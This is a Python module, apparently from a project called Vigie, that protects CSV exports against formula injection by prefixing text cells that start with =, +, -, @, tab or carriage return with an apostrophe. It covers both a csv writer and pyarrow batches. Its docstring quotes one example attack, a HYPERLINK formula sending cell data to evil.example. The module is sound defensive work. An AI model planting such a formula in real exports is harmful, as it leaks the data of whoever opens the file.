"""Text cells that a spreadsheet cannot take for formulas (CSV or formula injection).

Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula: a report's public text or a cell of an uploaded
file such as ``=HYPERLINK("https://evil.example/?"&A1)`` would run on the machine of whoever
opens the export. Following OWASP's guidance on CSV injection, every CSV Vigie writes prefixes
such a *text* cell with an apostrophe (``'=…``), which spreadsheets show as text and hide;
numbers are written as numbers, so a negative number in a numeric column keeps its sign and
stays a number. Readers of the raw file see the apostrophe: docs/opendata-api.md says so.
XLSX needs no prefix: its cells are written as strings, never as formulas.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_PATTERN = "^[=+@\\t\\r-]"


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that a spreadsheet would evaluate gets the prefix."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return PREFIX + value
    return value


class Writer:
    """``csv.writer`` whose text cells are escaped (same arguments, same methods)."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> Writer:
    return Writer(out, **kwargs)


def arrow_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """The batch with its text columns escaped, column by column (vectorised: an export of a
    million rows pays one regular-expression pass over its text, no Python per cell)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    changed = False
    for column in batch.columns:
        kind = column.type
        if pa.types.is_dictionary(kind) and pa.types.is_string(kind.value_type):
            column, kind = column.cast(pa.string()), pa.string()
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.match_substring_regex(column, _PATTERN)
            if pc.any(risky).as_py():
                prefixed = pc.binary_join_element_wise(pa.scalar(PREFIX, kind), column, pa.scalar("", kind))
                column = pc.if_else(risky, prefixed, column)
                changed = True
        columns.append(column)
    if not changed:
        return batch
    return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)
